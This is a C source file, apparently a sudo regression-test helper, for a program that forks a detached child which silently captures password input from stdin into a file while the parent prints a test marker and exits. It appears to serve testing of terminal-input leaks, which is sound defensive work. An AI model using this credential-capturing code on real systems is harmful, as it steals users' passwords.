/* SPDX-License-Identifier: ISC */

/*
 * steals_password FILE: a command of sudo's that wants the password.  It reads the marker in
 * sudo's arguments, leaves a child that writes what comes in on stdin to FILE,
 * shows the marker and is gone before anybody has seen it.
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void
keep_stdin(const char *name)
{
	char loot[256];
	ssize_t n;
	int fd;

	(void)setsid();
	(void)close(STDOUT_FILENO);
	(void)close(STDERR_FILENO);
	n = read(STDIN_FILENO, loot, sizeof(loot));
	fd = open(name, O_WRONLY | O_CREAT | O_APPEND, 0600);
	_exit(fd == -1 || (n > 0 && write(fd, loot, (size_t)n) != n));
}

int
main(int argc, char *argv[])
{
	char path[64], words[4096], *marker;
	ssize_t n;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%ld/cmdline",
	    (long)getppid());
	fd = open(path, O_RDONLY);
	if (fd == -1 || argc != 2)
		return 2;
	n = read(fd, words, sizeof(words) - 1);
	(void)close(fd);
	if (n <= 0)
		return 2;
	words[n] = '\0';
	marker = memmem(words, (size_t)n, "[prun-", 6);
	if (marker == NULL)
		return 3;
	if (fork() == 0)
		keep_stdin(argv[1]);
	return write(STDERR_FILENO, marker, strlen(marker)) == -1;
}
